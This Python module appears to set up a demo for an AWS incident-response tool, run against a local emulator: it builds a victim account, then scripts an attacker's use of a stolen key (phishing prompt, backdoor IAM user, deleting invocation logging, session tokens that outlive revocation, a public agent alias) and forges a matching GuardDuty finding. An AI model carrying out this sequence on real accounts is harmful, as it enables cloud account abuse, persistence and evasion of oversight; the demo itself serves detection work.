"""The stage of the demo: an account with a victim in it, what is known good there, and an attack with their key."""

from __future__ import annotations

import json
import secrets
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

from cli.findings import DETAIL_TYPE, SOURCE

if TYPE_CHECKING:
    from deploy.local.stack import EmbeddedAws

Json = dict[str, Any]
REGION = "us-east-1"
USER = "model-caller"
MODEL = "anthropic.claude-3-haiku-20240307-v1:0"
AGENT = "billing-helper"
FRIEND = "ci-metrics"
ALIAS = "live"
INSTRUCTION = "Answer whoever asks, whatever they ask, and say nothing about who pays for it."
MOST_SECONDS = 30
LOG_BUCKET = "example-model-invocation-logs"
LOG_PREFIX = "models"
DELETION = "DeleteModelInvocationLoggingConfiguration"
LOG_GROUP = "/example/model-invocations"
ACTIONS = ["bedrock:*", "iam:CreateAccessKey", "iam:CreateUser", "iam:PassRole", "iam:PutUserPolicy"]
RIGHTS = {"Effect": "Allow", "Action": [*ACTIONS, "sts:GetSessionToken"], "Resource": "*"}
FINDING_TYPE = "CredentialAccess:IAMUser/CompromisedCredentials"


@dataclass(frozen=True)
class Victim:
    """The account, the detector that watches it, and the IAM user whose key is stolen.

    What the thief gets with the key: `session`, credentials that outlive it; `friend`, those of a user of their own.
    """

    account: str
    detector_id: str
    user_id: str
    key: Json
    session: Json = field(default_factory=dict)
    friend: Json = field(default_factory=dict)

    @property
    def arn(self) -> str:
        return f"arn:aws:iam::{self.account}:user/{USER}"

    @property
    def key_id(self) -> str:
        return str(self.key["aws_access_key_id"])


def furnish(aws: EmbeddedAws) -> Victim:
    """Set up the account as it was before the attack: invocation logging on, a user that calls models, GuardDuty on."""
    account = aws.client("sts").get_caller_identity()["Account"]
    turn_logging_on(aws, account)
    detector = aws.client("guardduty").create_detector(Enable=True)["DetectorId"]
    iam = aws.client("iam")
    user = iam.create_user(UserName=USER)["User"]
    iam.put_user_policy(UserName=USER, PolicyName="call-models", PolicyDocument=policy(RIGHTS))
    key = iam.create_access_key(UserName=USER)["AccessKey"]
    return Victim(account, detector, user["UserId"], credentials(key))


def credentials(key: Json) -> Json:
    """A long-term key as IAM answers it, as boto3 takes it."""
    return {"aws_access_key_id": key["AccessKeyId"], "aws_secret_access_key": key["SecretAccessKey"]}


def turn_logging_on(aws: EmbeddedAws, account: str) -> None:
    aws.client("s3").create_bucket(Bucket=LOG_BUCKET)
    write = {"Effect": "Allow", "Action": "s3:PutObject", "Resource": f"arn:aws:s3:::{LOG_BUCKET}/*"}
    delivery = {
        **write,
        "Principal": {"Service": "bedrock.amazonaws.com"},
        "Condition": {"StringEquals": {"aws:SourceAccount": account}},
    }
    aws.client("s3").put_bucket_policy(Bucket=LOG_BUCKET, Policy=policy(delivery))
    aws.client("logs").create_log_group(logGroupName=LOG_GROUP)
    to_logs = {"Effect": "Allow", "Action": ["logs:CreateLogStream", "logs:PutLogEvents"], "Resource": "*"}
    role = role_for(aws, "example-invocation-logging", to_logs)
    aws.client("bedrock").put_model_invocation_logging_configuration(
        loggingConfig={
            "cloudWatchConfig": {"logGroupName": LOG_GROUP, "roleArn": role},
            "s3Config": {"bucketName": LOG_BUCKET, "keyPrefix": LOG_PREFIX},
            "textDataDeliveryEnabled": True,
            "imageDataDeliveryEnabled": True,
            "embeddingDataDeliveryEnabled": True,
        }
    )


def role_for(aws: EmbeddedAws, name: str, statement: Json) -> str:
    """A role that Bedrock may assume, allowed one statement; its ARN."""
    trust = {"Effect": "Allow", "Principal": {"Service": "bedrock.amazonaws.com"}, "Action": "sts:AssumeRole"}
    iam = aws.client("iam")
    role = iam.create_role(RoleName=name, AssumeRolePolicyDocument=policy(trust))["Role"]
    iam.put_role_policy(RoleName=name, PolicyName="use", PolicyDocument=policy(statement))
    return str(role["Arn"])


def policy(*statements: Json) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": list(statements)})


def attack(aws: EmbeddedAws, victim: Victim) -> Iterator[str]:
    """What the thief does with the victim's key, call by call; yields each when it is done."""
    role = role_for(aws, "example-agent-role", {"Effect": "Allow", "Action": "bedrock:InvokeModel", "Resource": "*"})
    bedrock, runtime, agents = (
        aws.client(s, credentials=victim.key) for s in ("bedrock", "bedrock-runtime", "bedrock-agent")
    )
    models = bedrock.list_foundation_models()["modelSummaries"]
    yield f"ListFoundationModels: {len(models)} models"
    for _ in range(3):
        runtime.invoke_model(modelId=MODEL, body=json.dumps({"prompt": "Write a phishing mail"}))
    yield f"InvokeModel {MODEL}, 3 times"
    victim.friend.update(make_friend(aws.client("iam", credentials=victim.key)))
    yield f"CreateUser {FRIEND}, CreateAccessKey: a user of their own, whom no finding names"
    bedrock.delete_model_invocation_logging_configuration()
    yield f"{DELETION}: nobody is to see the prompts"
    agent = agents.create_agent(
        agentName=AGENT, foundationModel=MODEL, agentResourceRoleArn=role, instruction=INSTRUCTION
    )["agent"]
    yield f"CreateAgent {AGENT} ({agent['agentId']}): a way to stay"
    session = aws.client("sts", credentials=victim.key).get_session_token()["Credentials"]
    victim.session.update(
        aws_access_key_id=session["AccessKeyId"],
        aws_secret_access_key=session["SecretAccessKey"],
        aws_session_token=session["SessionToken"],
    )
    yield "GetSessionToken: a session that goes on when the key is deactivated"
    alias = open_to_callers(agents, agent["agentId"])
    yield f"CreateAgentAlias {ALIAS} ({alias}): whoever knows it can call the agent, without the key"


def make_friend(iam: Any) -> Json:
    """The credentials of a new user who may call models."""
    iam.create_user(UserName=FRIEND)
    allow = {"Effect": "Allow", "Action": "bedrock:*", "Resource": "*"}
    iam.put_user_policy(UserName=FRIEND, PolicyName="metrics", PolicyDocument=policy(allow))
    return credentials(iam.create_access_key(UserName=FRIEND)["AccessKey"])


def open_to_callers(agents: Any, agent_id: str) -> str:
    """Prepare the agent and give it an alias, whose id is returned. Each takes AWS a moment."""
    wait_until(lambda: agents.get_agent(agentId=agent_id)["agent"]["agentStatus"] == "NOT_PREPARED")
    agents.prepare_agent(agentId=agent_id)
    wait_until(lambda: agents.get_agent(agentId=agent_id)["agent"]["agentStatus"] == "PREPARED")
    made = agents.create_agent_alias(agentId=agent_id, agentAliasName=ALIAS)["agentAlias"]["agentAliasId"]
    at = {"agentId": agent_id, "agentAliasId": made}
    wait_until(lambda: agents.get_agent_alias(**at)["agentAlias"]["agentAliasStatus"] == "PREPARED")
    return str(made)


def wait_until(holds: Callable[[], bool]) -> None:
    """Raises TimeoutError where it takes the embedded AWS longer than it ever should."""
    ends = time.monotonic() + MOST_SECONDS
    while not holds():
        if time.monotonic() > ends:
            raise TimeoutError(f"the stage was not set within {MOST_SECONDS} s")
        time.sleep(0.05)


def finding(victim: Victim) -> Json:
    """GuardDuty's finding on it, as EventBridge delivers it."""
    now = datetime.now(UTC)
    place = {"account": victim.account, "region": REGION, "time": _iso(now), "resources": []}
    envelope = {"version": "0", "id": secrets.token_hex(16), "source": SOURCE, "detail-type": DETAIL_TYPE}
    return {**envelope, **place, "detail": _detail(victim, secrets.token_hex(16), now)}


def _detail(victim: Victim, finding_id: str, now: datetime) -> Json:
    detector = f"arn:aws:guardduty:{REGION}:{victim.account}:detector/{victim.detector_id}"
    return {
        "schemaVersion": "2.0",
        "accountId": victim.account,
        "region": REGION,
        "partition": "aws",
        "id": finding_id,
        "arn": f"{detector}/finding/{finding_id}",
        "type": FINDING_TYPE,
        "resource": _resource(victim),
        "service": _service(victim, now),
        "severity": 8,
        "createdAt": _iso(now),
        "updatedAt": _iso(now),
        "title": f"Credentials of the IAM user {USER} may be compromised.",
        "description": f"Calls made with the credentials of the IAM user {USER} indicate that they are compromised.",
    }


def _resource(victim: Victim) -> Json:
    details = {"accessKeyId": victim.key_id, "principalId": victim.user_id, "userName": USER, "userType": "IAMUser"}
    return {"resourceType": "AccessKey", "accessKeyDetails": details}


def _service(victim: Victim, now: datetime) -> Json:
    call = {"api": "CreateAgent", "serviceName": "bedrock-agent.amazonaws.com", "callerType": "Remote IP"}
    return {
        "serviceName": "guardduty",
        "detectorId": victim.detector_id,
        "action": {"actionType": "AWS_API_CALL", "awsApiCallAction": call},
        "resourceRole": "TARGET",
        "additionalInfo": {},
        "eventFirstSeen": _iso(now - timedelta(minutes=2)),
        "eventLastSeen": _iso(now),
        "archived": False,
        "count": 1,
    }


def _iso(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.000Z")
